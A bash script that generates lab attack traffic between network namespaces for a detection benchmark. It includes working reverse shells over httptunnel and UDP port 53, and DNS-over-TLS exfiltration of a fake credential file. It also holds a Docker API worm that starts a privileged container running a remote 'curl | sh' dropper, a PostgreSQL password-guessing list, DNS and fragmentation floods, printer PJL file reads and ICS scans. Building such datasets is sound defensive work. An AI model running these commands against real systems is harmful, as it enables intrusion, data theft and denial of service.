#!/usr/bin/env bash
# A TENTH fresh attack set ("f10-*"): techniques none of the earlier sets used, made with real tools between network
# namespaces (two small bounded Python programs where no Debian package gives the far end without a real database or
# printer: a PostgreSQL login step and a PJL printer port).
#   f10-httptunnel-shell   a reverse shell carried in an HTTP tunnel (httptunnel's htc / hts) to an internet host on
#                          80: the device's TCP stream becomes long POSTs and GETs; an operator types 9 commands
#   f10-dot-exfil-853      a file exfiltrated as base32 labels of DNS queries sent over DNS-over-TLS (kdig +tls) to an
#                          internet "resolver" on tcp/853 (stunnel in front of dnsmasq)
#   f10-udp53-revshell     an interactive shell over plain UDP to port 53 of an internet host (socat), not DNS at
#                          all: the port firewalls leave open
#   f10-docker-api-worm    a Kinsing/TeamTNT-style worm: SYNs to 300 random internet addresses on 2375 / 2376, then
#                          the Docker Engine API of the hosts that answer (curl: version, containers, create a
#                          container that runs a miner dropper, start it)
#   f10-pgsql-brute        PGMiner-style password guessing of an internet PostgreSQL (hydra postgres): 5 users x 12
#                          passwords, MD5 authentication refused each time
#   f10-dns-water-torture  Mirai's DNS attack: random 12-character labels under one victim domain, 150 queries a
#                          second for 25 s to a public resolver (dnsperf)
#   f10-ip-frag-flood      a fragmentation flood: UDP datagrams of 1,400 bytes split into 200-byte IP fragments
#                          (hping3 -f), 120 datagrams a second to one internet address
#   f10-pjl-printer-lan    printer abuse on the LAN: a sweep of 9100 / 515 / 631, then PJL on the printers' raw port
#                          (INFO ID / STATUS / FILESYS, FSDIRLIST, FSUPLOAD of a configuration file) and a print job
#                          of spam (ncat)
#   f10-ics-s7-enip-recon  industrial reconnaissance of the LAN: a sweep of S7 (102), EtherNet/IP (44818), DNP3
#                          (20000) and IEC-104 (2404), then nmap's s7-info / enip-info / iec-identify scripts on the
#                          hosts that answer
# The lab is fresh-lab.sh's (device 10.66.0.10, victim 10.66.0.20, dummies .31-.34, a routed "internet" 10.128.0.0/9
# behind the victim), namespaces f10-*, veths f10p-*. Internet hosts are /32 addresses on the victim's lo
# (10.128.96.x and the worm's two Docker hosts); every other 10.128/9 address is on no host. Each id's servers are
# started before its capture and stopped after. Every tool runs under `timeout`, every loop is bounded; namespaces
# are removed on exit.
#
# Tools (Debian): httptunnel knot-dnsutils (kdig) stunnel4 dnsmasq socat nmap curl hydra dnsperf hping3 ncat busybox
#   tcpdump wireshark-common bc openssl
# Helpers: fresh10/pg-auth.py, fresh10/pjl-printer.py; ../victim-httpd.py.
#
# Usage: bash bench/behavior/fresh10/gen-fresh10.sh [--out DIR (default /work/behavior-bench-fresh10)] [--ids id1,id2]
set -euo pipefail

OUT=/work/behavior-bench-fresh10
HERE="$(cd "$(dirname "$0")" && pwd)"
LAB=f10 GEN=gen-fresh10
# shellcheck source=../fresh-lab.sh
. "$HERE/../fresh-lab.sh" "$@"

lab_network
sleep 1

# ---------- "internet" hosts ----------
# .96.5 hts (80), .96.6 DoT (853), .96.7 the UDP shell's operator (53), .96.8 the public resolver (53), .96.9
# PostgreSQL (5432); the worm's Docker hosts 10.128.61.4 (2375) and 10.128.177.30 (2375); the fragment flood's
# target 10.128.96.66 is on no host (its fragments end at the gateway, as behind a NAT that drops them).
DOCKER_T="10.128.61.4 10.128.177.30"
internet_hosts 10.128.96.5 10.128.96.6 10.128.96.7 10.128.96.8 10.128.96.9 $DOCKER_T
lab_tls_cert "dns.example"
export NET VIC_IP ATT_IP W PY HERE LAB

mkdir -p "$W/loot"
{ echo "[wifi]"; echo "ssid=Home-5G"; echo "psk=$(head -c 12 /dev/urandom | base64)"; echo "[cloud]";
  echo "token=$(head -c 48 /dev/urandom | base64 -w0)"; echo "[rtsp]"; echo "user=admin"; echo "pass=$(head -c 9 /dev/urandom | base64)"; } > "$W/loot/config.ini"

# ---------- 1. a reverse shell inside an HTTP tunnel (httptunnel) to an internet host on 80 ----------
if want f10-httptunnel-shell; then
  srv vic 130 hts -w -F 127.0.0.1:4444 10.128.96.5:80
  HT_PID=$BG
  # the operator behind hts: whole command lines, pauses
  cat > "$W/ht-op.sh" <<'EOS'
( sleep 8; for c in "id" "uname -a" "cat /proc/cpuinfo | head -5" "ip -4 addr" "cat /proc/net/arp" "ls -la /tmp" \
    "ps" "cat /etc/passwd" "exit"; do echo "$c"; sleep $((4 + RANDOM % 6)); done ) |
  timeout 110 socat -T 60 - TCP-LISTEN:4444,bind=127.0.0.1,reuseaddr >/dev/null 2>&1 || true
EOS
  srv vic 120 bash "$W/ht-op.sh"
  OP_PID=$BG
  sleep 2
  cat > "$W/ht.sh" <<'EOS'
timeout 100 htc -w -F 7777 -U 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)' 10.128.96.5:80 &
H=$!
sleep 2
timeout 90 busybox nc 127.0.0.1 7777 -e /bin/sh || true
sleep 3
kill $H 2>/dev/null; wait $H 2>/dev/null || true
EOS
  CAP_VIC_IP=10.128.96.5 cap f10-httptunnel-shell c2 httptunnel-htc-hts-revshell attacker public false 110 bash "$W/ht.sh"
  stopbg "$OP_PID"; stopbg "$HT_PID"
fi

# ---------- 2. exfiltration in DNS queries over DNS-over-TLS (kdig +tls) to an internet resolver on 853 ----------
if want f10-dot-exfil-853; then
  srv vic 130 dnsmasq -k --no-resolv --no-hosts --bind-interfaces --listen-address=127.0.0.1 --port=5354 \
    --local=/example/ --pid-file="$W/dnsmasq-dot.pid" --user=root
  DM_PID=$BG
  cat > "$W/stunnel-dot.conf" <<EOF
foreground = yes
pid =
[dot]
accept = 10.128.96.6:853
connect = 127.0.0.1:5354
cert = $W/tls.crt
key = $W/tls.key
EOF
  srv vic 130 stunnel4 "$W/stunnel-dot.conf"
  ST_PID=$BG
  sleep 2
  cat > "$W/dot.sh" <<'EOS'
# base32 of the loot (the configuration and a 3 kB key store) in 50-character labels, three names per query batch
# (one TLS connection each), 1-3 s apart
head -c 3000 /dev/urandom > "$W/loot/keystore.bin"
cat "$W/loot/config.ini" "$W/loot/keystore.bin" | base32 -w 50 | tr 'A-Z=' 'a-z0' > "$W/dot-labels"
i=0
mapfile -t L < "$W/dot-labels"
n=${#L[@]}
while [ $i -lt $n ] && [ $i -lt 120 ]; do
  names=()
  for j in 0 1 2; do
    [ $((i + j)) -lt $n ] && names+=("${L[$((i + j))]}.$((i + j)).t7f3a.cdn-sync.example")
  done
  timeout 8 kdig +tls +time=3 +retry=0 @10.128.96.6 -t TXT "${names[@]}" >/dev/null 2>&1 || true
  i=$((i + 3))
  sleep $((1 + RANDOM % 3))
done
EOS
  CAP_VIC_IP=10.128.96.6 cap f10-dot-exfil-853 exfil kdig-dns-over-tls-853 attacker public false 110 bash "$W/dot.sh"
  stopbg "$ST_PID"; stopbg "$DM_PID"
fi

# ---------- 3. an interactive shell over plain UDP to port 53 of an internet host (socat) ----------
if want f10-udp53-revshell; then
  cat > "$W/u53-op.sh" <<'EOS'
( sleep 6; for c in "id" "uname -a" "cat /proc/net/route" "ip -4 addr" "cat /etc/passwd" "ls -la /etc" \
    "netstat -an" "cat /proc/cpuinfo | head -8" "exit"; do echo "$c"; sleep $((4 + RANDOM % 5)); done ) |
  timeout 100 socat -T 30 - UDP-LISTEN:53,bind=10.128.96.7 >/dev/null 2>&1 || true
EOS
  srv vic 110 bash "$W/u53-op.sh"
  UO_PID=$BG
  sleep 2
  CAP_VIC_IP=10.128.96.7 cap f10-udp53-revshell c2 socat-udp53-shell attacker public false 100 \
    socat -T 40 UDP:10.128.96.7:53 EXEC:'/bin/sh -i',stderr
  stopbg "$UO_PID"
fi

# ---------- 4. a Docker-API worm: 300 random internet addresses on 2375 / 2376, the API of those that answer ----------
if want f10-docker-api-worm; then
  D=()
  for a in $DOCKER_T; do srv vic 120 $PY "$HERE/../victim-httpd.py" "$a" 2375; D+=("$BG"); done
  sleep 1
  $PY - "$W/docker-targets" $DOCKER_T <<'PYEOF'
import random, sys
rnd = random.Random(1010)
addrs = {f"10.{rnd.randint(128, 255)}.{rnd.randint(0, 255)}.{rnd.randint(1, 254)}" for _ in range(330)}
addrs = sorted(addrs - set(sys.argv[2:]))[:298] + sys.argv[2:]
rnd.shuffle(addrs)
open(sys.argv[1], "w").write("\n".join(addrs) + "\n")
PYEOF
  cat > "$W/docker.sh" <<'EOS'
timeout 40 nmap -n -Pn -sS -p 2375,2376 --open --max-retries 0 --min-rate 60 --max-rate 90 \
  -iL "$W/docker-targets" -oG "$W/docker-open" >/dev/null
awk '/Ports:/ && / 2375\/open/ {print $2}' "$W/docker-open" | while read -r h; do
  B="http://$h:2375"
  timeout 8 curl -s -o /dev/null -A 'Docker-Client/19.03.12 (linux)' "$B/version" || true
  timeout 8 curl -s -o /dev/null -A 'Docker-Client/19.03.12 (linux)' "$B/v1.40/info" || true
  timeout 8 curl -s -o /dev/null -A 'Docker-Client/19.03.12 (linux)' "$B/v1.40/containers/json?all=1" || true
  timeout 8 curl -s -o /dev/null -A 'Docker-Client/19.03.12 (linux)' -X POST "$B/v1.40/images/create?fromImage=alpine&tag=latest" || true
  timeout 8 curl -s -o /dev/null -A 'Docker-Client/19.03.12 (linux)' -H 'Content-Type: application/json' -X POST \
    "$B/v1.40/containers/create?name=kdevtmpfsi" --data '{"Image":"alpine:latest","Cmd":["/bin/sh","-c","apk add --no-cache curl; curl -s http://10.128.96.20/d.sh | sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true,"NetworkMode":"host"}}' || true
  timeout 8 curl -s -o /dev/null -A 'Docker-Client/19.03.12 (linux)' -X POST "$B/v1.40/containers/kdevtmpfsi/start" || true
  sleep 2
done
EOS
  CAP_WAN=$WAN CAP_VIC_IP=10.128.61.4 cap f10-docker-api-worm scan nmap+curl-docker-api-worm attacker wan false 80 \
    bash "$W/docker.sh"
  for p in "${D[@]}"; do stopbg "$p"; done
fi

# ---------- 5. PostgreSQL password guessing of an internet host (hydra postgres) ----------
if want f10-pgsql-brute; then
  srv vic 110 $PY "$HERE/pg-auth.py" 10.128.96.9 5432 100
  PG_PID=$BG
  sleep 1
  printf '%s\n' postgres admin root pgsql dbadmin > "$W/pg-users"
  printf '%s\n' postgres 123456 password admin root 12345678 qwerty postgres123 P@ssw0rd 1qaz2wsx changeme pgsql \
    > "$W/pg-pass"
  CAP_VIC_IP=10.128.96.9 cap f10-pgsql-brute credential hydra-postgres attacker public false 90 \
    hydra -L "$W/pg-users" -P "$W/pg-pass" -t 4 -w 10 -f 10.128.96.9 postgres
  stopbg "$PG_PID"
fi

# ---------- 6. Mirai's DNS water torture: random labels under one domain to a public resolver (dnsperf) ----------
if want f10-dns-water-torture; then
  srv vic 80 dnsmasq -k --no-resolv --no-hosts --bind-interfaces --listen-address=10.128.96.8 --port=53 \
    --local=/example/ --dns-forward-max=1000 --pid-file="$W/dnsmasq-wt.pid" --user=root
  WT_PID=$BG
  sleep 1
  $PY - "$W/wt-queries" <<'PYEOF'
import random, string, sys
rnd = random.Random(1066)
with open(sys.argv[1], "w") as f:
    for _ in range(4000):
        f.write("".join(rnd.choice(string.ascii_lowercase + string.digits) for _ in range(12)) + ".shop-target.example A\n")
PYEOF
  CAP_VIC_IP=10.128.96.8 cap f10-dns-water-torture dos dnsperf-random-subdomain attacker public false 45 \
    dnsperf -s 10.128.96.8 -d "$W/wt-queries" -Q 150 -l 25 -c 4 -t 2 -n 1
  stopbg "$WT_PID"
fi

# ---------- 7. an IP fragmentation flood (hping3 -f) to one internet address ----------
if want f10-ip-frag-flood; then
  CAP_VIC_IP=10.128.96.66 cap f10-ip-frag-flood dos hping3-udp-fragment-flood attacker public false 40 \
    hping3 -2 -p 27015 -d 1400 -f --mtu 200 -i u8300 -c 2400 10.128.96.66
fi

# ---------- 8. printer abuse on the LAN: 9100 / 515 / 631 sweep, PJL file-system reads, a spam print job ----------
if want f10-pjl-printer-lan; then
  P=()
  srv vic 100 $PY "$HERE/pjl-printer.py" "$VIC_IP" 9100 95; P+=("$BG")
  srv d32 100 $PY "$HERE/pjl-printer.py" "$NET.32" 9100 95; P+=("$BG")
  sleep 1
  cat > "$W/pjl.sh" <<'EOS'
timeout 30 nmap -n -Pn -sS -p 9100,515,631 --open --max-retries 1 "$NET.0/24" -oG "$W/pjl-open" >/dev/null
E=$'\x1b%-12345X'
awk '/Ports:/ && / 9100\/open/ {print $2}' "$W/pjl-open" | while read -r h; do
  for q in "@PJL INFO ID" "@PJL INFO STATUS" "@PJL INFO FILESYS" '@PJL FSDIRLIST NAME="0:/" ENTRY=1 COUNT=65535' \
      '@PJL FSDIRLIST NAME="0:/webServer/config" ENTRY=1 COUNT=65535' \
      '@PJL FSUPLOAD NAME="0:/webServer/config/device.cfg" OFFSET=0 SIZE=1536'; do
    printf '%s@PJL\r\n%s\r\n%s' "$E" "$q" "$E" | timeout 8 ncat -i 3 "$h" 9100 >/dev/null 2>&1 || true
    sleep 1
  done
  # the spam job: 12 pages of text
  { printf '%s@PJL\r\n@PJL JOB NAME="notice"\r\n@PJL ENTER LANGUAGE=PCL\r\n' "$E"
    for p in $(seq 1 12); do
      for l in $(seq 1 50); do printf 'YOUR NETWORK HAS BEEN COMPROMISED - page %s line %s - visit hxxp://t.example\r\n' "$p" "$l"; done
      printf '\x0c'
    done
    printf '%s@PJL EOJ\r\n%s' "$E" "$E"; } | timeout 15 ncat -i 3 "$h" 9100 >/dev/null 2>&1 || true
  sleep 2
done
EOS
  cap f10-pjl-printer-lan lateral nmap+ncat-pjl-printer attacker lan false 90 bash "$W/pjl.sh"
  for p in "${P[@]}"; do stopbg "$p"; done
fi

# ---------- 9. industrial reconnaissance of the LAN: S7 / EtherNet/IP / DNP3 / IEC-104 sweep, nmap's ICS scripts ----------
if want f10-ics-s7-enip-recon; then
  I=()
  # listeners that accept and hold the connection (no protocol answer): the scripts send their requests and time out
  srv vic 100 socat TCP-LISTEN:102,bind="$VIC_IP",fork,reuseaddr SYSTEM:'timeout 6 cat >/dev/null'; I+=("$BG")
  srv d33 100 socat TCP-LISTEN:44818,bind="$NET.33",fork,reuseaddr SYSTEM:'timeout 6 cat >/dev/null'; I+=("$BG")
  srv d34 100 socat TCP-LISTEN:2404,bind="$NET.34",fork,reuseaddr SYSTEM:'timeout 6 cat >/dev/null'; I+=("$BG")
  sleep 1
  cat > "$W/ics.sh" <<'EOS'
timeout 30 nmap -n -Pn -sS -p 102,502,2404,20000,44818 --open --max-retries 1 "$NET.0/24" -oG "$W/ics-open" >/dev/null
hosts=$(awk '/Ports:/ && /open/ {print $2}' "$W/ics-open" | tr '\n' ' ')
[ -n "$hosts" ] && timeout 60 nmap -n -Pn -sT -p 102,2404,44818 --script s7-info,enip-info,iec-identify \
  --script-timeout 20s $hosts >/dev/null 2>&1 || true
EOS
  cap f10-ics-s7-enip-recon scan nmap-s7-enip-iec-scripts attacker lan false 100 bash "$W/ics.sh"
  for p in "${I[@]}"; do stopbg "$p"; done
fi

lab_index
